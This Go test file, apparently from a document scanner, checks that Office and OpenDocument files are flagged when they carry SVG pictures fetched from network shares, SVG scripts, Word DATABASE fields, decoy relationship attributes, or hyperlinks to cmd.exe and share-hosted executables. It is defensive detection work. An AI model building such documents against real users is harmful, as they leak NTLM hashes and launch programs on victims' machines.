// is: LibreOffice, which opens .docx, .xlsx and .pptx too, draws the
// picture a blip names by its content with svgio, fetching an <image>
// from a share as the document opens (the NTLM hash). Before, a .docx
// whose word/media/image1.png was such an SVG had no finding (red team).
func TestOOXMLSVGPictures(t *testing.T) {
	const drawn = `<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>`
	rels := docRels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>`)
	withPicture := func(pic []byte) []byte {
		return zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>`+override("/word/document.xml", ctWordMain)),
			rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", drawn), rels, deflate("word/media/image1.png", pic))
	}
	// svgAt: the picture at name, its type (an Override) types.
	svgAt := func(name, types string) []byte {
		rels := docRels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="/` + name + `"/>`)
		return zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>`+override("/word/document.xml", ctWordMain)+types),
			rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", drawn), rels, deflate(name, svgImage(`\\192.0.2.1\s\a.png`)))
	}
	cases := []classifyCase{
		{name: "SVG named .png drawing an image from a share", filename: "a.docx",
			data:  withPicture(svgImage(`\\192.0.2.1\s\a.png`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in word/media/image1.png"}},
		{name: "SVGZ from a file URL", filename: "a.docx",
			data:  withPicture(gzipOf(t, "", svgImage(`file://192.0.2.1/s/a.png`))),
			class: ClassArchive, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a file) in word/media/image1.png"}},
		{name: "UTF-16 SVG", filename: "a.docx",
			data:  withPicture(utf16LE(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"/>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureNotInspected + " word/media/image1.png: markup in UTF-16"}},
		// LibreOffice tells SVG by "<svg" in the first 2 KiB, not by
		// the root (review).
		{name: "SVG inside another root", filename: "a.docx",
			data:  withPicture([]byte(`<x><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="\\192.0.2.1\s\a.png"/></svg></x>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in word/media/image1.png"}},
		// A script is reported as an SVG picture's, not as an
		// OpenDocument macro (ODFMacro), in an OOXML document.
		{name: "SVG with a script", filename: "a.docx",
			data:  withPicture([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
			class: ClassOffice, sniffed: mimeDocm, findings: []string{OOXMLPictureScript + " svg:script in word/media/image1.png", MacroFinding}},
		// Whatever the part's type or folder: a relationship names the
		// picture by its path.
		{name: "SVG typed as a workbook's external link", filename: "a.docx",
			data:  svgAt("word/media/image1.png", override("/word/media/image1.png", ctExternalLink)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in word/media/image1.png"}},
		{name: "SVG named as a workbook's external link", filename: "a.docx",
			data:  svgAt("xl/externalLinks/image1.xml", ""),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in xl/externalLinks/image1.xml"}},
		{name: "SVG named .rels", filename: "a.docx",
			data:  svgAt("word/media/image1.rels", ""),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in word/media/image1.rels"}},
		{name: "SVG in a _rels folder", filename: "a.docx",
			data:  svgAt("word/_rels/image1.rels", ""),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLPictureLinked + " svg:image xlink:href (a network share) in word/_rels/image1.rels"}},
		// The same picture in an OpenDocument file.
		{name: "UTF-16 SVG in an OpenDocument file", filename: "a.odt",
			data:  odfFile(t, mimeODT, odfBody("text", odfSVGFrame), deflate("Pictures/1.svg", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"/>`))),
			class: ClassOffice, sniffed: mimeODT, findings: []string{ODFNotInspected + " Pictures/1.svg: markup in UTF-16"}},
		{name: "clean, an SVG with its own pixels and a PNG", filename: "a.pptx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="png" ContentType="image/png"/>`+
				override("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
				rootRels(mainRel("ppt/presentation.xml")), deflate("ppt/presentation.xml", []byte(`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`)),
				deflate("ppt/media/image1.svg", svgImage(`data:image/png;base64,iVBORw0KGgo=`)), deflate("ppt/media/image2.png", pngImage(t)),
				deflate("customXml/itemProps1.xml", []byte(`<ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs><ds:schemaRef ds:uri="http://schemas.microsoft.com/office/2006/metadata/properties"/></ds:schemaRefs></ds:datastoreItem>`))),
			class: ClassOffice, sniffed: mimePptx, clean: true},
	}
	runClassify(t, cases)
}

// TestWordDatabaseField: a Word DATABASE field fetches rows from the
// database its \d switch names (a workbook on a share: the NTLM hash)
// when it updates, as INCLUDETEXT fetches a text: it blocks keeping the
// document. Before, it had no finding (red team).
func TestWordDatabaseField(t *testing.T) {
	cases := []classifyCase{
		{name: "DATABASE from a workbook on a share", filename: "a.docx",
			data:  docx(t, deflate("word/document.xml", wordField(` DATABASE \d "\\\\192.0.2.1\\s\\名簿.xlsx" \s "SELECT * FROM `+"`Sheet1$`"+`" \h `))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference database field in word/document.xml"}},
		{name: "clean, a merge field", filename: "a.docx",
			data:  docx(t, deflate("word/document.xml", wordField(` MERGEFIELD 氏名 `))),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
	}
	runClassify(t, cases)
}

// TestRelationshipAttributesAsRead: a relationship's Target, Type and
// TargetMode are read as Office and LibreOffice read them: a second one
// in another namespace or case (a decoy x:TargetMode="Internal" after
// TargetMode="External", which the reader took last) makes the part not
// inspected, and a TargetMode other than exactly "Internal" is external
// (LibreOffice takes " Internal" for External: oox RelationsFragment).
// Before, both let a picture linked from a share through (red team).
func TestRelationshipAttributesAsRead(t *testing.T) {
	const (
		image = `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"`
		share = `Target="\\192.0.2.1\s\a.png"`
	)
	cases := []classifyCase{
		{name: "decoy TargetMode in another namespace", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship xmlns:x="urn:x" Id="rId5" `+image+` `+share+` TargetMode="External" x:TargetMode="Internal"/>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: relationships not inspected (an attribute written twice) in word/_rels/document.xml.rels"}},
		{name: "decoy hyperlink type, lower case", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship Id="rId5" `+image+` type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://192.0.2.1/a.png" TargetMode="External"/>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: relationships not inspected (an attribute written twice) in word/_rels/document.xml.rels"}},
		{name: "TargetMode Internal with a blank", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship Id="rId5" `+image+` `+share+` TargetMode=" Internal"/>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference image in word/_rels/document.xml.rels"}},
		{name: "clean, internal parts", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship Id="rId5" `+image+` Target="media/a.png" TargetMode="Internal"/><Relationship Id="rId6" `+image+` Target="media/b.png"/>`)),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
	}
	runClassify(t, cases)
}

// TestInternalHyperlinkTargets: a hyperlink relationship without
// TargetMode="External" whose target is a URL, a share or a drive path
// counts as an external one: LibreOffice makes an internal hyperlink's
// target the link's URL as it is (oox HyperLinkContext), so a slide's
// click ran cmd.exe from a link the reader skipped as internal (red
// team). A target inside the package is no link out.
func TestInternalHyperlinkTargets(t *testing.T) {
	const hyperlink = `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"`
	slideRels := func(rels string) zent {
		return deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
	}
	cases := []classifyCase{
		{name: "a program on the drive", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" `+hyperlink+` Target="file:///C:/Windows/System32/cmd.exe"/>`)),
			class: ClassOffice, findings: []string{"office: link to a file (file:) in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "a share, TargetMode Internal", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" `+hyperlink+` Target="\\192.0.2.1\s\a.exe" TargetMode="Internal"/>`)),
			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "clean, a slide of the package", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" `+hyperlink+` Target="slide2.xml"/>`)),
			class: ClassOffice, clean: true},
	}
	runClassify(t, cases)
}

// TestHyperlinkByType: only a relationship of the hyperlink type (the
// transitional or the strict one) is a hyperlink; another whose type
// merely ends in "hyperlink" is an external reference: LibreOffice
// follows a relationship by its Id whatever its type, so a picture's
// r:link to one fetched its web target as the document opened, where
// the reader counted it as a link left clickable (red team).
func TestHyperlinkByType(t *testing.T) {
	cases := []classifyCase{
		{name: "a picture from the web under a made-up type", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship Id="rId5" Type="urn:x/hyperlink" Target="http://192.0.2.1/a.png" TargetMode="External"/>`)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference relationship in word/_rels/document.xml.rels"}},
		{name: "clean, a strict hyperlink to the web", filename: "a.docx",
			data:  docx(t, docRels(`<Relationship Id="rId5" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>`)),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
	}
	runClassify(t, cases)
}

// TestInternalTargetsOfAnyType: LibreOffice looks an internal target
// up by its Id whatever the relationship's type (oox
// getInternalTargetFromRelId), so a shape's hlinkClick naming an
// internal image relationship whose target is a program on the drive
// links out as a hyperlink one does (review).
func TestInternalTargetsOfAnyType(t *testing.T) {
	slideRels := func(rels string) zent {
		return deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
	}
	cases := []classifyCase{
		{name: "an image relationship to a program on the drive", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///C:/Windows/System32/cmd.exe"/>`)),
			class: ClassOffice, findings: []string{"office: external reference image in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "a decoy hyperlink type to a share", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" Type="urn:x/hyperlink" Target="\\192.0.2.1\s\a.exe" TargetMode="Internal"/>`)),
			class: ClassOffice, findings: []string{"office: external reference relationship in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "clean, an image of the package", filename: "a.docx",
			data:  docx(t, slideRels(`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="../media/image1.png"/>`)),
			class: ClassOffice, clean: true},
	}
	runClassify(t, cases)
}
